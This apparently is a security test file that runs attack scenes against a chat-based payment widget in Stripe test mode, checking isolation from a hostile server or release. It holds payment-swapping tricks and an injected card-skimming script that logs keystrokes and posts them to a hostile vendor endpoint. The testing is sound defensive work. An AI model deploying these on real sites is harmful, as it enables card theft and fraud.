/** Another amount, another account, another frame for the card. Measured at Stripe's stand-in too. */
import type { SceneAttack } from '../attack.ts';
import { cardBytes } from '../measure.ts';
import type { Outcome } from '../outcome.ts';
import {
  type Asked,
  askForPayment,
  comeBack,
  openSheet,
  pressPay,
  sheetText,
  stripeOf,
  typeSheetCard,
} from '../payments.ts';
import { arm, prelude } from '../prelude.ts';
import { PATIENCE_MS, pause, type Stage, until, withTab } from '../stage.ts';
import { hostileRelease, pinnedTag, tagOf } from '../tags.ts';
import { openCheckout } from '../visitor.ts';

const REFUSED = /it was refused/;
const TAGS = ['signed', 'pinned'] as const;
const kindOf = (column: string) => (column === 'signed' ? 'signed' : 'pinned');

const cardAtAttacker = ({ lane }: Stage): number =>
  cardBytes(Buffer.concat([...lane.evil.loot.map(({ bytes }) => bytes), lane.vendor.heard()]));

/** The conventional widget pays what the server says, to whom the server says. */
async function overcharged(stage: Stage, told: object): Promise<Partial<Outcome>> {
  stage.lane.next();
  const { files } = stage.lane.vendor.hostility;
  const payment = { amount: '€49.00', description: 'Brass lantern', status: 'created' };
  const site = { name: 'Halyard & Co', color: '#1f4fd8', greeting: 'Ahoy!' };
  files.set('/control/widget.js', stage.widget);
  files.set('/control/state.json', JSON.stringify({ site, entries: [{ payment }] }));
  const honest = { amount: '€49.00', key: 'pk_shop', secret: 'pi_true' };
  files.set('/control/pay.json', JSON.stringify({ ...honest, ...told }));
  stage.lane.tag = stage.controlTag();
  return withTab(stage, async (tab) => {
    await openCheckout(stage, tab);
    await until(async () => (await tab.evaluate('widget.open(), true')) === true, PATIENCE_MS);
    await until(
      async () => (await tab.evaluate(`(document.querySelector('.pay').click(), true)`)) === true,
      PATIENCE_MS,
    );
    type Paid = { shown: string; charged: string; key: string; secret: string };
    let paid: Paid | undefined;
    await until(async () => {
      paid = await tab.evaluate<Paid>('window.widgetPaid');
      return paid !== undefined;
    }, PATIENCE_MS);
    if (!paid) return {};
    const { shown, charged, key, secret } = paid;
    const isOther = charged !== shown || key !== honest.key || secret !== honest.secret;
    return { harm: isOther ? `${charged} to ${key} by ${secret}, where ${shown} was shown` : '' };
  });
}

/** A payment that differs from what the card in the chat showed, found before anything is charged. */
const swapped = (
  id: string,
  tries: string,
  told: object,
  prepare: (stage: Stage, asked: Asked) => Promise<void>,
): SceneAttack => ({
  kind: 'scene',
  family: 'payment',
  held: 'server',
  id: `pay-${id}`,
  tries,
  control: (stage) => overcharged(stage, told),
  columns: TAGS,
  async act(stage, column) {
    stage.lane.next();
    const asked = await askForPayment(stage);
    await prepare(stage, asked);
    stage.lane.tag = tagOf(stage, kindOf(column));
    return withTab(stage, async (tab) => {
      await comeBack(stage, tab, asked.token);
      const words = await openSheet(tab, /refused|Stripe could not|not go through|canceled/i);
      const offers = await tab.evaluate<boolean>(
        `!!document.querySelector('iframe[title="Secure payment input frame"]')`,
      );
      return { ...outcomeOf(stage, tab, words), harm: offers ? 'the sheet asked for a card' : '' };
    });
  },
});

const outcomeOf = (
  stage: Stage,
  tab: { seen: { complaints: string[] } },
  words: string,
): Partial<Outcome> => ({
  bytes: cardAtAttacker(stage),
  contacts: stage.lane.evil.loot.length,
  lines: stage.lane.vendor.words.filter(({ at }) => at !== 'null').length,
  told: [
    `sheet: ${words.slice(0, 200)}`,
    ...stage.lane.vendor.reports.map(({ kind }) => `loader: ${kind}`),
    ...tab.seen.complaints.slice(0, 3),
  ],
});

/** Every client secret that the server gives is another's. */
const giveSecret = (stage: Stage, clientSecret: string | null) => {
  stage.lane.vendor.hostility.answer = (path, answer) =>
    path.startsWith('/api/payments/open')
      ? {
          ok: true,
          data: {
            clientSecret,
            revision: 1,
            publishableKey: 'pk_test_attacker',
            stripeKey: 'pk_test_attacker',
            stripeAccount: 'acct_attacker',
          },
        }
      : answer;
};
const newIntent = (stage: Stage, change: object, options: object = {}) =>
  stripeOf(stage.demo).paymentIntents.create(
    {
      amount: 4900,
      currency: 'eur',
      description: 'Brass lantern',
      automatic_payment_methods: { enabled: true },
      ...change,
    },
    options,
  );

export const PAYMENT_ATTACKS: readonly SceneAttack[] = [
  swapped(
    'inflated',
    'raises the amount at Stripe after the visitor has seen it in the chat',
    { amount: '€4,999.00' },
    async (stage, { intentId }) => {
      // The true server would notice, and give no secret; this one does not care.
      const { client_secret } = await stripeOf(stage.demo).paymentIntents.update(intentId, {
        amount: 499_900,
      });
      giveSecret(stage, client_secret);
    },
  ),
  swapped(
    'secret',
    'gives the client secret of another, dearer payment',
    { secret: 'pi_other', amount: '€990.00' },
    async (stage) => {
      giveSecret(stage, (await newIntent(stage, { amount: 99_000 })).client_secret);
    },
  ),
  swapped(
    'purpose',
    'gives the client secret of a payment for something else',
    { secret: 'pi_other' },
    async (stage) => {
      giveSecret(stage, (await newIntent(stage, { description: 'Gift card' })).client_secret);
    },
  ),
  swapped(
    'currency',
    'keeps the number and changes the currency',
    { amount: '£49.00' },
    async (stage) => {
      giveSecret(stage, (await newIntent(stage, { currency: 'gbp' })).client_secret);
    },
  ),
  swapped(
    'account',
    'gives a payment in its own Stripe account, with its own key',
    { key: 'pk_attacker' },
    async (stage) => {
      giveSecret(
        stage,
        (await newIntent(stage, {}, { stripeAccount: 'acct_attacker' })).client_secret,
      );
    },
  ),
  {
    kind: 'scene',
    family: 'payment',
    held: 'server',
    id: 'pay-late',
    tries: 'raises the amount while the card is being typed',
    control: (stage) => overcharged(stage, { amount: '€4,999.00' }),
    columns: TAGS,
    async act(stage, column) {
      stage.lane.next();
      const asked = await askForPayment(stage);
      stage.lane.tag = tagOf(stage, kindOf(column));
      return withTab(stage, async (tab) => {
        await comeBack(stage, tab, asked.token);
        await openSheet(tab, /€49\.00/);
        await typeSheetCard(tab);
        await stripeOf(stage.demo).paymentIntents.update(asked.intentId, { amount: 499_900 });
        await pressPay(tab);
        const isRefused = await until(async () => REFUSED.test(await sheetText(tab)), PATIENCE_MS);
        const { status } = stage.demo.stripe?.control.paymentIntent(asked.intentId) ?? {};
        const isCharged = status === 'succeeded' || !isRefused;
        await stage.photograph(column, [this], tab);
        return {
          ...outcomeOf(stage, tab, await sheetText(tab)),
          harm: isCharged ? 'another amount was charged' : '',
        };
      });
    },
  },
  {
    kind: 'scene',
    family: 'payment',
    held: 'all',
    id: 'pay-sheet-keys',
    tries: 'reads the card as it is typed for a payment in the chat',
    async control(stage) {
      const setting = stage.lane.next();
      const code =
        prelude(setting) +
        arm(
          'skim',
          `for (const one of documents) one.addEventListener('input', ({ target }) => send(target.name + '=' + target.value), true);`,
        );
      const { files } = stage.lane.vendor.hostility;
      const payment = { amount: '€49.00', description: 'Brass lantern', status: 'created' };
      const site = { name: 'Halyard & Co', color: '#1f4fd8', greeting: 'Ahoy!' };
      files.set('/control/widget.js', stage.widget + code);
      files.set('/control/state.json', JSON.stringify({ site, entries: [{ payment }] }));
      stage.lane.tag = stage.controlTag();
      return withTab(stage, async (tab) => {
        await openCheckout(stage, tab);
        await until(async () => (await tab.evaluate('widget.open(), true')) === true, PATIENCE_MS);
        await until(
          async () =>
            (await tab.evaluate(`(document.querySelector('[name=pay-number]').focus(), true)`)) ===
            true,
          PATIENCE_MS,
        );
        await tab.type('5200828282828210');
        await until(() => cardAtAttacker(stage) >= 16, PATIENCE_MS);
        return { bytes: cardAtAttacker(stage), contacts: stage.lane.evil.loot.length, lines: 1 };
      });
    },
    columns: ['frame'],
    async act(stage) {
      const setting = stage.lane.next();
      const asked = await askForPayment(stage);
      const { lane } = stage;
      // Stays awake by every means, and takes the focus whenever it can.
      const code =
        prelude(setting) +
        arm(
          'skim',
          `
        const trap = add('input'); trap.style.cssText = 'position:fixed;top:0;opacity:0';
        trap.addEventListener('input', () => fetch(VENDOR + '/x/' + RUN + '/skim', { method: 'POST', body: trap.value }));
        addEventListener('keydown', ({ key }) => fetch(VENDOR + '/x/' + RUN + '/skim', { method: 'POST', body: key }));
        setInterval(() => { focus(); trap.focus(); }, 30); addEventListener('pagehide', () => { for (let i = 0; i < 3; i++) { focus(); trap.focus(); } });`,
        );
      lane.tag = pinnedTag(stage, hostileRelease(lane, lane.release.files.chat.code + code));
      return withTab(stage, async (tab) => {
        await comeBack(stage, tab, asked.token);
        await openSheet(tab, /€49\.00/);
        await typeSheetCard(tab);
        const frames = await tab.evaluate<number>(
          `document.querySelector('#bulkhead').shadowRoot.querySelectorAll('iframe').length`,
        );
        await stage.photograph('frame', [this], tab);
        await pressPay(tab);
        await until(async () => /Paid/.test(await sheetText(tab)), PATIENCE_MS);
        await pause(300);
        const brought = lane.vendor.heardAs(lane.run, 'skim').toString();
        const keys = brought.replace(/\D/g, '').length;
        return {
          ...outcomeOf(stage, tab, 'Paid, at Stripe'),
          bytes: cardAtAttacker(stage) + keys,
          harm: frames ? 'the chat was there while the card was typed' : '',
        };
      });
    },
  },
];
